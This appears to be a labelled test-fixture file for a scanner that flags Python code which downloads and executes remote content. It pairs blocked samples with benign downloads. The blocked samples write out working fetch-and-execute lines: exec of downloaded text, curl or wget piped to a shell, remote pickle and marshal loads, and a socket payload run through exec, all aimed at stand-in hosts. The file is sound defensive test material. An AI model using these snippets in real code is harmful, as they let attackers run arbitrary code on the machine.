#@ exec_requests_text BLOCKED t
import requests
exec(requests.get("https://203.0.113.50/stage2.py", timeout=10).text)
#@ urlretrieve_chmod_run BLOCKED t
import os
import subprocess
import urllib.request

dest = "/tmp/agent"
urllib.request.urlretrieve("http://203.0.113.51/agent", dest)
os.chmod(dest, 0o755)
subprocess.Popen([dest])
#@ download_helper_then_run BLOCKED v
import os
import stat
import subprocess
import requests


def download_file(url, local_filename):
    with requests.get(url, stream=True, timeout=30) as r:
        r.raise_for_status()
        with open(local_filename, "wb") as f:
            for chunk in r.iter_content(8192):
                f.write(chunk)
    return local_filename


path = download_file("http://203.0.113.52/tool", "/tmp/tool")
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)
subprocess.run([path, "--install"], check=True)
#@ eval_compile_urlopen BLOCKED t
from urllib.request import urlopen
code = urlopen("http://203.0.113.53/p").read().decode()
eval(compile(code, "<remote>", "exec"))
#@ subprocess_curl_sh BLOCKED t
import subprocess
subprocess.run("curl -fsSL http://203.0.113.54/i.sh | sh", shell=True)
#@ os_system_wget_bash BLOCKED v
import os
url = "http://203.0.113.55/setup.sh"
os.system(f"wget -qO- {url} | bash")
#@ importlib_remote_module BLOCKED t
import importlib.util
import sys
import requests

src = requests.get("https://203.0.113.56/plugin.py", timeout=10).text
spec = importlib.util.spec_from_loader("plugin", loader=None)
module = importlib.util.module_from_spec(spec)
exec(src, module.__dict__)
sys.modules["plugin"] = module
#@ write_then_python BLOCKED t
import subprocess
import sys
import requests

r = requests.get("https://203.0.113.57/job.py", timeout=10)
with open("job.py", "w") as f:
    f.write(r.text)
subprocess.run([sys.executable, "job.py"], check=True)
#@ loop_mirrors_exec BLOCKED v
import urllib.request

MIRRORS = ["http://203.0.113.58/p.py", "http://203.0.113.59/p.py"]
for url in MIRRORS:
    try:
        payload = urllib.request.urlopen(url, timeout=5).read()
    except OSError:
        continue
    exec(payload)
    break
#@ pickle_loads_remote BLOCKED t
import pickle
import requests
obj = pickle.loads(requests.get("http://203.0.113.60/state.pkl", timeout=10).content)
#@ zip_download_extract_run BLOCKED t
import io
import subprocess
import zipfile
import requests

data = requests.get("https://203.0.113.61/bundle.zip", timeout=30).content
zipfile.ZipFile(io.BytesIO(data)).extractall("/tmp/bundle")
subprocess.call(["sh", "/tmp/bundle/run.sh"])
#@ base64_downloaded_exec BLOCKED v
import base64
import requests

blob = requests.get("https://203.0.113.62/b64", timeout=10).text
exec(base64.b64decode(blob))
#@ ctypes_load_downloaded BLOCKED t
import ctypes
import urllib.request

urllib.request.urlretrieve("http://203.0.113.63/lib.so", "/tmp/lib.so")
ctypes.CDLL("/tmp/lib.so")
#@ httpx_then_os_system BLOCKED t
import os
import httpx

script = httpx.get("https://203.0.113.64/s.sh").text
with open("/tmp/s.sh", "w") as f:
    f.write(script)
os.system("bash /tmp/s.sh")
#@ class_updater BLOCKED v
import os
import subprocess
import tempfile
import requests


class Updater:
    URL = "https://203.0.113.65/update.bin"

    def fetch(self):
        fd, path = tempfile.mkstemp()
        with os.fdopen(fd, "wb") as f:
            f.write(requests.get(self.URL, timeout=30).content)
        os.chmod(path, 0o700)
        return path

    def apply(self):
        subprocess.check_call([self.fetch()])


Updater().apply()
#@ pip_install_url BLOCKED t
import subprocess
import sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "http://203.0.113.66/pkg.tar.gz"])
subprocess.check_call([sys.executable, "-m", "pkg"])
#@ argv_url_exec BLOCKED t
import sys
import urllib.request

def run_remote(url):
    exec(urllib.request.urlopen(url).read().decode())

run_remote(sys.argv[1])
#@ marshal_remote BLOCKED v
import marshal
import requests
code = marshal.loads(requests.get("http://203.0.113.67/c.bin", timeout=5).content)
exec(code)
#@ runpy_downloaded BLOCKED t
import runpy
import urllib.request
urllib.request.urlretrieve("http://203.0.113.68/m.py", "/tmp/m.py")
runpy.run_path("/tmp/m.py")
#@ aiohttp_exec BLOCKED t
import asyncio
import aiohttp


async def main():
    async with aiohttp.ClientSession() as session:
        async with session.get("http://203.0.113.69/x.py") as resp:
            exec(await resp.text())

asyncio.run(main())
#@ socket_recv_exec BLOCKED v
import socket
s = socket.create_connection(("203.0.113.70", 9000))
buf = b""
while chunk := s.recv(4096):
    buf += chunk
exec(buf.decode())
#@ generated_exec_download HIGH t generated
import requests
exec(requests.get("https://example.com/snippet.py", timeout=10).text)
#@ download_dataset benign t
import requests
from pathlib import Path


def download_file(url, local_filename):
    with requests.get(url, stream=True, timeout=30) as r:
        r.raise_for_status()
        with open(local_filename, "wb") as f:
            for chunk in r.iter_content(8192):
                f.write(chunk)
    return local_filename


Path("data").mkdir(exist_ok=True)
download_file("https://example.com/iris.csv", "data/iris.csv")
#@ json_api_parse benign t
import json
import urllib.request

with urllib.request.urlopen("https://api.example.com/items", timeout=10) as r:
    items = json.loads(r.read())
print(len(items))
#@ subprocess_local_script benign v
import subprocess
import sys
subprocess.run([sys.executable, "scripts/prepare.py", "--out", "build"], check=True)
#@ exec_local_config benign t
config = {}
with open("settings.py") as f:
    exec(f.read(), config)
print(config.get("DEBUG"))
#@ pip_install_requirements benign t
import subprocess
import sys
subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])
#@ zip_download_extract benign v
import io
import zipfile
import requests

data = requests.get("https://example.com/fonts.zip", timeout=30).content
zipfile.ZipFile(io.BytesIO(data)).extractall("fonts")
#@ chmod_own_script benign t
import os
import subprocess

os.chmod("build.sh", 0o755)
subprocess.run(["./build.sh"], check=True)
#@ importlib_local_plugins benign t
import importlib
from pathlib import Path

for p in Path("plugins").glob("*.py"):
    module = importlib.import_module(f"plugins.{p.stem}")
    module.register()
#@ urlretrieve_image benign v
import urllib.request
urllib.request.urlretrieve("https://example.com/logo.png", "static/logo.png")
#@ requests_html_parse benign t
import requests
from bs4 import BeautifulSoup

html = requests.get("https://example.com", timeout=10).text
soup = BeautifulSoup(html, "html.parser")
print([a["href"] for a in soup.find_all("a", href=True)][:10])
#@ tempfile_download_checksum benign t
import hashlib
import tempfile
import requests

r = requests.get("https://example.com/release.tar.gz", timeout=60)
with tempfile.NamedTemporaryFile(delete=False) as f:
    f.write(r.content)
print(hashlib.sha256(r.content).hexdigest())
#@ ast_literal_eval_remote benign v
import ast
import requests
value = ast.literal_eval(requests.get("https://example.com/value.txt", timeout=5).text)
print(value)
#@ subprocess_git_clone benign t
import subprocess
subprocess.run(["git", "clone", "--depth", "1", "https://github.com/example/repo.git"], check=True)
#@ run_tests benign t
import subprocess
import sys
sys.exit(subprocess.call([sys.executable, "-m", "pytest", "-q"]))
#@ json_loads_download benign v
import json
import requests
data = json.loads(requests.get("https://example.com/data.json", timeout=10).text)
print(data.keys())
#@ pandas_read_url benign t
import pandas as pd
df = pd.read_csv("https://example.com/data.csv")
print(df.describe())
#@ yaml_safe_remote benign t
import requests
import yaml
cfg = yaml.safe_load(requests.get("https://example.com/config.yml", timeout=10).text)
print(cfg["version"])
#@ download_then_open_pdf benign v
import requests
with open("paper.pdf", "wb") as f:
    f.write(requests.get("https://example.com/paper.pdf", timeout=30).content)
print("saved")
#@ runpy_local_module benign t
import runpy
runpy.run_module("mypackage.cli", run_name="__main__")
#@ exec_template benign t
template = "result = {a} + {b}"
ns = {}
exec(template.format(a=1, b=2), ns)
print(ns["result"])
